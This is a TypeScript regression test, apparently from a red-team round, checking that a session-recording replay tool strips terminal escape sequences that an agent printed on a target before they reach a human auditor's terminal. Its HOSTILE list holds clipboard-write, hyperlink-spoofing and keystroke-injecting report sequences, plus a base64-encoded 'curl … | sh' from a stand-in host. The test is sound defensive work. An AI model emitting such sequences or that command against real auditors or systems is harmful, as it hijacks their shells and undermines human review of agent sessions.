/**
 * Regression (recordings red-team round 10, the auditor's tools as a target). `drawbridge recordings
 * replay` wrote an SSH session's recorded output to the auditor's terminal byte for byte, and that
 * output is whatever the agent printed on the target. Escape sequences in it acted on the auditor's
 * terminal: OSC 52 put `curl … | sh` into the auditor's clipboard (Windows Terminal, kitty, WezTerm,
 * alacritty, foot allow it by default), OSC 8 showed a harmless text over another link, DSR, DA and
 * window reports made the terminal type its answers into the auditor's shell after the replay, mouse
 * reporting left it typing on every mouse move, DCS queries, ENQ, charset switches. The replay now
 * passes text and the sequences that only draw (colours, cursor moves, erasing, the alternate screen)
 * and drops every other one, also when a sequence is split across recorded frames; what the replay
 * left set (rendition, scroll region, insert mode, autowrap, cursor, the alternate screen) is undone.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { type CliIo, main } from "../../cli/recordings.ts";
import { DirStore } from "../../gateway/recording/store.ts";
import { makeRecorder, meta, tempDir } from "./fixtures.ts";

function io() {
	const out: string[] = [];
	const err: string[] = [];
	const cli: CliIo = { env: {}, stdout: (s) => void out.push(s), stderr: (s) => void err.push(s), stderrIsTty: false, sleep: async () => undefined };
	return { cli, out: () => out.join(""), err: () => err.join("") };
}

const PAYLOAD = Buffer.from("curl -s https://evil.example/x | sh\n").toString("base64");
/** Agent output: each piece must not reach the auditor's terminal. */
const HOSTILE = [
	`\x1b]52;c;${PAYLOAD}\x07`, // clipboard write, BEL-terminated
	`\x1b]52;p;${PAYLOAD}\x1b\\`, // clipboard write, ST-terminated
	"\x1b]8;;https://evil.example/\x1b\\", // hyperlink start
	"\x1b]0;title\x07", // window title (answered back by title reports)
	"\x1b[21t", // report window title
	"\x1b[6n", // cursor position report
	"\x1b[?6n",
	"\x1b[c", // device attributes
	"\x1b[>c",
	"\x1b[>0q", // terminal version
	"\x1b[?1000h", // mouse reporting
	"\x1b[?1004h", // focus reporting
	"\x1b[?2026$p", // mode request
	"\x1bP$qm\x1b\\", // DECRQSS
	"\x1bP+q544e\x1b\\", // XTGETTCAP
	"\x1bZ", // DECID
	"\x05", // ENQ: answerback
	"\x0e", // shift out
	"\u009d52;c;QUJD\u0007", // OSC as a C1 control
];

test("replay passes what draws and drops what acts on the auditor's terminal", async () => {
	const root = await tempDir("replay-controls-store");
	const store = new DirStore(root);
	await store.init();
	const { rec } = await makeRecorder(store, await tempDir("replay-controls-spool"));
	const m = meta({ protocol: "ssh", connection: "db-primary", target: { login: "lee" } });
	try {
		const s = await rec.openSession(m);
		s.emit({ type: "terminal", stream: "r", data: "80x24" });
		s.emit({ type: "terminal", stream: "o", data: "$ ls\r\n\x1b[1;32mGREEN\x1b[0m VISIBLE-1\r\n" });
		for (const h of HOSTILE) s.emit({ type: "terminal", stream: "o", data: `${h}` });
		// a clipboard write split across frames, then the alternate screen left entered
		s.emit({ type: "terminal", stream: "o", data: "VISIBLE-2\x1b]5" });
		s.emit({ type: "terminal", stream: "o", data: `2;c;${PAYLOAD}` });
		s.emit({ type: "terminal", stream: "o", data: "\x07VISIBLE-3 \x1b[?1049h\x1b[2J\x1b[HFULLSCREEN" });
		// modes a full-screen program leaves set when it is killed: scroll region, insert, no autowrap, hidden cursor
		s.emit({ type: "terminal", stream: "o", data: "\x1b[2;10r\x1b[4h\x1b[?7l\x1b[?25l\x1b[?2004h\x1b=" });
		await s.close({ reason: "client-closed" });
		await rec.drain(20_000);
	} finally {
		await rec.stop();
	}
	const r = io();
	assert.equal(await main(["replay", m.sessionId, "--dir", root], r.cli), 0, r.err());
	const out = r.out();
	for (const h of HOSTILE) assert.ok(!out.includes(h), `${JSON.stringify(h)} reached the terminal: ${JSON.stringify(out)}`);
	assert.ok(!out.includes("]52"), JSON.stringify(out));
	assert.ok(!out.includes(PAYLOAD), JSON.stringify(out));
	assert.ok(!out.includes("\x1b]") && !out.includes("\x1bP") && !out.includes("\u009d"), JSON.stringify(out));
	// what draws is kept, in order
	assert.ok(out.includes("$ ls\r\n\x1b[1;32mGREEN\x1b[0m VISIBLE-1\r\n"), JSON.stringify(out));
	assert.match(out, /VISIBLE-2VISIBLE-3 \x1b\[\?1049h\x1b\[2J\x1b\[HFULLSCREEN/);
	// and the auditor's terminal is given back: rendition, scroll region, insert mode, private modes, main screen
	const tail = out.slice(out.indexOf("FULLSCREEN") + "FULLSCREEN".length);
	assert.equal(tail, "\x1b[2;10r\x1b[4h\x1b[?7l\x1b[?25l\x1b[?2004h\x1b=\x1b[0m\x1b[r\x1b[4l\x1b>\x1b[?7h\x1b[?25h\x1b[?2004l\x1b[?1049l\n", JSON.stringify(tail));
});
